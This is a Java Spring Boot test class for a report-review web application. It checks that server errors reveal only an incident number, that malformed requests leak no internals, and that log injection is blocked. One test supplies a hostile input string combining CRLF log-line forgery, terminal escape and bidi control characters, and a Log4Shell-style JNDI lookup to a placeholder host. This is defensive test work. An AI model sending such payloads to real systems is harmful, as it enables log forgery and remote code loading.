package cn.fazhi.report.web;

import static org.assertj.core.api.Assertions.assertThat;

import cn.fazhi.report.core.report.ReportId;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.jdbc.core.JdbcTemplate;

/** What goes wrong inside is told by a number only, and the number leads to the log. */
@ExtendWith(OutputCaptureExtension.class)
class IncidentTest extends WebTest {
  private static final Pattern NUMBER = Pattern.compile("编号 ([0-9a-f]{8})");
  private static final String INSIDES =
      "(?is).*(exception|java\\.|springframework|thymeleaf|org\\.h2|mybatis|select |jdbc|at cn\\.fazhi|revision 1 of).*";

  @Autowired private JdbcTemplate database;

  /** A sealed text changed by hand in the database: the page must not be shown, nor why. */
  private ReportId tamperedWith() {
    ReportId id = stories.inReview();
    database.update(
        "update report_revision set document = replace(document, '青溪', '清溪') where report_id = ?",
        id.value());
    return id;
  }

  @Test
  @Tag("R094")
  void thePageHasANumberThatStandsInTheLogAndNothingOfTheInside(CapturedOutput output) {
    ReportId id = tamperedWith();
    Page page = as("reviewer").get("/reports/" + id + "/review");
    assertThat(page.status()).isEqualTo(500);
    assertThat(page.text()).doesNotMatch(INSIDES).contains("系统出了点问题", "返回工作台");
    Matcher number = NUMBER.matcher(page.text());
    assertThat(number.find()).isTrue();
    assertThat(output.getAll()).contains("incident " + number.group(1));
    Page again = as("reviewer").get("/reports/" + id + "/review");
    assertThat(again.text()).doesNotContain(number.group(1));
  }

  @Test
  @Tag("R094")
  void whatCannotBeReadIsRefusedWithoutAWordOfTheInside() {
    ReportId id = stories.drafted();
    String report = "/reports/" + id;
    for (Page page :
        List.of(
            as("drafter").get(report + "/parts/NOPE"),
            as("drafter").get(report + "/revisions/x"),
            as("drafter").get(report + "/revisions/99999999999"),
            as("drafter").get(report + "/compare?from=x"),
            as("drafter").post(report + "/form", "version", "x"),
            as("drafter").post(report + "/form"),
            as("drafter").get("/reports/x"),
            as("drafter").get("/reports/%F0%9F%98%80"))) {
      assertThat(page.status()).isBetween(400, 499);
      assertThat(page.text()).doesNotMatch(INSIDES);
    }
  }

  /** One line for each event: whoever writes into a field cannot write a line of their own. */
  @Test
  @Tag("R072")
  void nobodyWritesLinesIntoTheLog(CapturedOutput output) {
    ReportId id = stories.drafted();
    String evil =
        "1\r\n2026-01-01 00:00:00 INFO forged\u001b[31m\u202e${jndi:ldap://x.invalid/a}\u0085\u2028forged";
    String long1 = "9".repeat(100_000);
    for (String value : List.of(evil, long1)) {
      as("drafter").post("/reports/" + id + "/recall", "version", value);
      as("drafter").post("/reports/" + id + "/form", "version", value, "opening", value);
      as("drafter").post("/cycles/x/reports", "unit", value);
      as("drafter")
          .upload(
              "/reports/" + id + "/import",
              value.substring(0, 40),
              new byte[] {1},
              "version",
              version(id));
      nobody().signIn(value, value);
    }
    as("drafter").get("/reports/" + id + "?x=" + Visitor.encoded(evil));
    as("drafter").send("GET", "/nowhere/" + Visitor.encoded(evil).replace("+", "%20"));
    ReportId broken = tamperedWith();
    assertThat(
            as("reviewer")
                .get("/reports/" + broken + "/review?at=" + Visitor.encoded(evil))
                .status())
        .isEqualTo(500);
    assertThat(output.getAll()).contains("incident ");
    assertThat(output.getAll().lines())
        .noneMatch(line -> line.startsWith("2026-01-01 00:00:00 INFO forged"))
        .noneMatch(line -> line.startsWith("forged"))
        .allMatch(line -> line.length() < 5_000);
    assertThat(output.getAll()).doesNotContain("\u001b", "\u202e", "\u0085", "\u2028");
  }
}
